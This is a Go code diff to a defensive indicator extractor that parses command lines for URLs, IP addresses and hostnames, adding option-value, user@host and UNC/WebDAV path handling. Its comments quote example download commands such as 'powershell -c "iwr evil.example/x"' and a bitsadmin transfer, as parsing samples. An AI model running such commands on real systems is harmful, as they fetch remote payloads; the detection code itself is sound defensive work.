@@ -52,12 +52,13 @@ func (e *Extractor) unlistedURL(p []byte, v *fastjson.Value) {
 
 // addCommandLine scans a command line for the URLs, IP addresses and domain names in its
 // arguments (bitsadmin /transfer job http://…, powershell -c "iwr evil.example/x"). Each
-// argument is split off at spaces and quotes; a URL or address may end in punctuation.
+// argument is split off at spaces and quotes; a URL or address may end in punctuation, and
+// may follow an option's '=' (--server=evil.example).
 func (e *Extractor) addCommandLine(field string, b []byte) {
 	for _, arg := range bytes.FieldsFunc(b, func(r rune) bool {
 		return r == ' ' || r == '\t' || r == '"' || r == '\'' || r == '`' || r == '(' || r == ')' || r == ',' || r == ';' || r == '|'
 	}) {
-		arg = bytes.TrimRight(arg, ".:!?>")
+		arg = optionValue(bytes.TrimRight(arg, ".:!?>"))
 		switch {
 		case len(arg) < 4:
 		case bytes.Contains(arg, []byte("://")):
@@ -67,21 +68,48 @@ func (e *Extractor) addCommandLine(field string, b []byte) {
 		case ipLike(arg):
 			e.add(field, classIP, arg)
 		default:
-			if h := hostOf(arg); len(h) > 3 && e.domainLike(h) {
+			h := hostOf(arg)
+			switch {
+			case len(h) < 4:
+			case ipv4Like(h):
+				e.add(field, classIP, h)
+			case e.domainLike(h):
 				e.add(field, classHost, h)
 			}
 		}
 	}
 }
 
-// hostOf is the host part of "host/path" or "host:port/path", as commands write addresses
-// without a scheme.
+// optionValue is the value of an option written name=value (--server=evil.example,
+// /url=http://…), or arg itself. An '=' inside a URL's query is not an option's.
+func optionValue(arg []byte) []byte {
+	i := bytes.IndexByte(arg, '=')
+	if i < 0 || bytes.Contains(arg[:i], []byte("://")) {
+		return arg
+	}
+	return arg[i+1:]
+}
+
+// hostOf is the host part of an address written without a scheme, as commands write them:
+// "host/path", "host:port", "user@host" (ssh, scp), and UNC paths "\\host\share", including
+// WebDAV's "\\host@SSL\DavWWWRoot".
 func hostOf(arg []byte) []byte {
+	unc := bytes.HasPrefix(arg, []byte(`\\`)) || bytes.HasPrefix(arg, []byte("//"))
+	if unc {
+		arg = arg[2:]
+	}
 	if i := bytes.IndexAny(arg, "/\\"); i >= 0 {
 		arg = arg[:i]
 	}
-	if i := bytes.LastIndexByte(arg, ':'); i >= 0 && isDigits(arg[i+1:]) {
-		arg = arg[:i]
+	if unc {
+		if i := bytes.IndexByte(arg, '@'); i >= 0 {
+			arg = arg[:i] // WebDAV: host@SSL, host@port
+		}
+	} else if i := bytes.LastIndexByte(arg, '@'); i >= 0 {
+		arg = arg[i+1:] // user@host
+	}
+	if i := bytes.LastIndexByte(arg, ':'); i >= 0 && (i == len(arg)-1 || isDigits(arg[i+1:])) {
+		arg = arg[:i] // host:port, scp's host:path
 	}
 	return arg
 }
